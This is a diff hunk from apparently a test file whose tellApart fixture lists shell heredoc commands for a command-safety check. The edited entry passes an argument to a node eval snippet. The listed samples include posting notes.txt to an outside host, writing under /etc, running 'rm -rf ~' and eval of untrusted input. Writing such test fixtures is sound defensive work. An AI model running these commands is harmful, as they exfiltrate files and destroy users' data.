@@ -297,7 +297,7 @@ tellApart({
       "python3 - <<'E'\nimport requests\ns = requests.Session()\ns.post('https://example.net', data=open('notes.txt').read())\nE",
       "node - <<'E'\nconst p = `/etc/${f}`\nrequire('fs').writeFileSync(p, 'x')\nE",
       "node - <<'E'\nconst {execSync} = require('child_process')\nclass A { execSync(c) { return 1 } }\nexecSync('rm -rf ~')\nE",
-      "node - <<'E'\nconst o = { eval(x) { return x } }\neval(process.argv[2])\nE",
+      'node - "$1" <<\'E\'\nconst o = { eval(x) { return x } }\neval(process.argv[2])\nE',
     ],
   },
 })
